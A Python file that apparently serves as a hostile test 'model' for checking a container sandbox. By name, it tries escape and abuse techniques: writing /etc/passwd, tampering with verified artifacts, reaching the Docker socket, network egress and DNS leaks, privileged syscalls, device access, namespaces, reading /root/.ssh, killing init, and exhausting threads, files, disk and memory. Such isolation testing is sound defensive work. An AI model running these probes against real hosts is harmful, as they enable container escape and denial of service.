"""A model that tries to get out of its container: asked for an attempt by name, it says how that went.

It runs inside a replica, so it needs nothing but Python. An attempt returns what it got hold of, or raises.
"""

import contextlib
import ctypes
import errno
import os
import signal
import socket
import stat
import struct
import threading
import time
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
NEW_USER, NEW_NETWORK = 0x10000000, 0x40000000
INIT_MODULE, BPF, PERF_EVENT_OPEN, ADD_KEY, REBOOT = 175, 321, 298, 248, 169
MB = 1024 * 1024


class Predict:
    def predict(self, inputs):
        return [self.attempt(*row) for row in inputs]

    def attempt(self, name, *arguments):
        try:
            return f"open: {ATTEMPTS[name](*arguments)}"
        except (OSError, MemoryError) as error:
            return f"shut: {error!r}"
        except Exception as error:  # a mistake of this script's, which is no proof of anything
            return f"broken: {error!r}"


def call(name, *arguments):
    """A function of the C library that returns -1 when it is refused."""
    if getattr(LIBC, name)(*arguments) == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), name)
    return name


def first_of(attempts):
    """What the first of them got; the error of the last if none got anything."""
    last = OSError("nothing to try")
    for attempt in attempts:
        try:
            return attempt()
        except OSError as error:
            last = error
    raise last


def write_root():
    places = ("/evil", "/var/tmp/evil", "/opt/hopyard/hopyard/evil.py", "/etc/passwd", "/usr/local/evil")
    return first_of([lambda path=path: (Path(path).open("a").close(), path)[1] for path in places])


def change_files():
    """What was verified at the start: the artifact, the manifest and the scripts as they were laid out."""
    paths = [path for top in ("/hopyard/artifact", "/hopyard/start") for path in Path(top).rglob("*")]
    changes = (lambda path: path.open("a").close(), lambda path: path.chmod(0o777), Path.unlink)
    changes += (lambda path: path.rename("/tmp/stolen"), lambda path: (path.parent / "evil").touch())
    return first_of(
        [lambda path=path, change=change: (change(path), path) for path in paths for change in changes]
    )


def become_root():
    if os.geteuid() == 0:
        return "is root"
    return first_of([lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), give_to_root])


def give_to_root():
    Path("/tmp/gift").write_text("#!/bin/sh")
    os.chown("/tmp/gift", 0, 0)


def capabilities():
    """A program that is root's by its mode gives nothing either, with no_new_privs."""
    status = dict(
        line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line
    )
    held = {
        name: status[name]
        for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")
        if int(status[name], 16)
    }
    if held or status["NoNewPrivs"] != "1" or status["Seccomp"] == "0":
        return f"{held} {status['NoNewPrivs']} {status['Seccomp']}"
    raise PermissionError("none, and no way to any")


def mount():
    Path("/tmp/mounted").mkdir(exist_ok=True)
    remount = 32
    return first_of(
        [
            lambda: call("mount", b"none", b"/tmp/mounted", b"tmpfs", 0, None),
            lambda: call("mount", b"none", b"/", None, remount, None),
            lambda: call("umount2", b"/proc/sys", 0),
            lambda: (
                call("pivot_root", b"/tmp", b"/tmp")
                if hasattr(LIBC, "pivot_root")
                else call("chroot", b"/tmp")
            ),
        ]
    )


def talk_to_the_engine():
    def connect(path):
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
        return path

    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]
    return first_of([lambda path=path: connect(path) for path in paths])


def raw_socket():
    kinds = [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0)]
    return first_of([lambda kind=kind: socket.socket(*kind).close() for kind in kinds])


def egress_tcp(host, port):
    with socket.create_connection((host, port), timeout=2) as client:
        client.sendall(b"out")
        return client.recv(16)


def egress_udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        client.sendto(b"out", (host, port))
        return client.recv(16)


def names(host, port):
    """A question that a name server outside would answer, asked at Docker's own, which passes questions on."""
    question = (
        struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\x06secret\x07example\x00" + struct.pack(">2H", 1, 1)
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.sendto(question, ("127.0.0.11", 53))
        code = client.recv(512)[3] & 15
    if code in {2, 5}:
        raise OSError(f"the name server gave up with {code}")
    return f"answered {code}"


def write_kernel_settings():
    paths = [
        "/proc/sys/kernel/hostname",
        "/proc/sys/vm/drop_caches",
        "/proc/sysrq-trigger",
        "/proc/sys/net/ipv4/ip_forward",
    ]
    paths += ["/sys/kernel/mm/transparent_hugepage/enabled", "/sys/fs/cgroup/memory/memory.limit_in_bytes"]
    paths += ["/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max"]
    return first_of([lambda path=path: os.close(os.open(path, os.O_WRONLY)) for path in paths])


def privileged_calls():
    return first_of(
        [
            lambda: call("syscall", INIT_MODULE, b"", 0, b""),
            lambda: call("syscall", BPF, 0, b"\0" * 64, 64),
            lambda: call("syscall", PERF_EVENT_OPEN, b"\0" * 128, -1, 0, -1, 0),
            lambda: call("syscall", ADD_KEY, b"user", b"name", b"x", 1, -2),
            lambda: call("syscall", REBOOT, 0xFEE1DEAD, 672274793, 0x01234567, None),
            lambda: socket.sethostname("evil"),
            lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
            lambda: os.setpriority(os.PRIO_PROCESS, 0, -5),
        ]
    )


def devices():
    found = [path for path in Path("/dev").iterdir() if stat.S_ISBLK(path.stat().st_mode)]
    makes = [lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))]
    opens = [*found, *map(Path, ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/net/tun"))]
    return first_of([*makes, *(lambda path=path: path.open("r+b").close() for path in opens)])


def new_namespaces():
    """In a child, since a namespace once entered is not left."""

    def enter(which):
        child = os.fork()
        if child == 0:
            os._exit(0 if LIBC.unshare(which) == 0 else ctypes.get_errno() or 1)
        if number := os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
            raise OSError(number, os.strerror(number), "unshare")
        return which

    return first_of([lambda: enter(NEW_USER), lambda: enter(NEW_NETWORK)])


def other_processes():
    """Anything that is not this replica's: its init, which is Docker's, the server and what that started."""
    commands = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            commands.append(path.read_bytes().replace(b"\0", b" ").decode())
    strange = [
        each for each in commands if each and "hopyard.server" not in each and "docker-init" not in each
    ]
    if strange:
        return strange
    raise ProcessLookupError(f"nobody else among {len(commands)}")


def other_files():
    """Files of the engine, of the host, and of other containers, also by way of the first process."""
    paths = [
        "/var/lib/docker",
        "/proc/1/root/var/lib/docker",
        "/host",
        "/mnt/host",
        "/var/lib/hopyard",
        "/root/.ssh",
    ]
    return first_of([lambda path=path: list(Path(path).iterdir()) and path for path in paths])


def kill_init():
    """A signal to the first process of a container from within does nothing, if it has no handler for it."""
    with contextlib.suppress(PermissionError):
        os.kill(1, signal.SIGKILL)
        os.kill(1, signal.SIGSTOP)
    raise PermissionError("init goes on")


def processes():
    """As many threads as there may be, which the kernel counts as processes, each gone again afterwards."""
    end, started = threading.Event(), []
    threading.stack_size(64 * 1024)
    try:
        while len(started) < 5000:
            thread = threading.Thread(target=end.wait)
            thread.start()
            started.append(thread)
    except RuntimeError as error:
        raise OSError(errno.EAGAIN, f"{error} after {len(started)}") from error
    finally:
        end.set()
        for thread in started:
            thread.join()
        threading.stack_size(0)
    return len(started)


def open_files():
    opened = []
    try:
        while len(opened) < 1_000_000:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    finally:
        for each in opened:
            os.close(each)
    return len(opened)


def fill(most_mb):
    """Every place that can be written to, up to `most_mb`; with files without content, too."""
    full = []
    for top in ("/tmp", "/hopyard/work", "/dev/shm", "/dev/mqueue", "/run", "/var/tmp", "/home"):
        with contextlib.suppress(OSError):
            if fill_one(Path(top) / "filler", most_mb):
                full.append(top)
    if full:
        return full
    raise OSError(errno.ENOSPC, "every place is bounded")


def fill_one(path, most_mb):
    """Whether it took that much."""
    try:
        with path.open("wb", buffering=0) as file:
            for _ in range(most_mb):
                file.write(b"\0" * MB)
    except OSError:
        return False
    finally:
        path.unlink(missing_ok=True)
    return True


def dump_core():
    """A core file of the server would hold what it holds."""
    import resource

    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1, 1))
    except ValueError as error:
        raise PermissionError(str(error)) from error


def eat_memory():
    """Ends this replica, and no other."""
    held = []
    while True:
        held.append(bytearray(8 * MB))


def limits():
    """How much of a processor, memory and processes the kernel gives this container, by its control groups."""
    found = {}
    for name, places in LIMITS.items():
        for place in places:
            with contextlib.suppress(OSError):
                found[name] = Path("/sys/fs/cgroup", place).read_text().split()[0]
    return found


LIMITS = {
    "quota": ("cpu/cpu.cfs_quota_us", "cpu.max"),
    "memory": ("memory/memory.limit_in_bytes", "memory.max"),
    "memory and swap": ("memory/memory.memsw.limit_in_bytes",),
    "processes": ("pids/pids.max", "pids.max"),
}

ATTEMPTS = {
    each.__name__: each
    for each in (
        write_root,
        change_files,
        become_root,
        capabilities,
        mount,
        talk_to_the_engine,
        raw_socket,
        egress_tcp,
        egress_udp,
        names,
        write_kernel_settings,
        privileged_calls,
        devices,
        new_namespaces,
        other_processes,
        other_files,
        kill_init,
        processes,
        open_files,
        fill,
        dump_core,
        eat_memory,
        limits,
    )
}
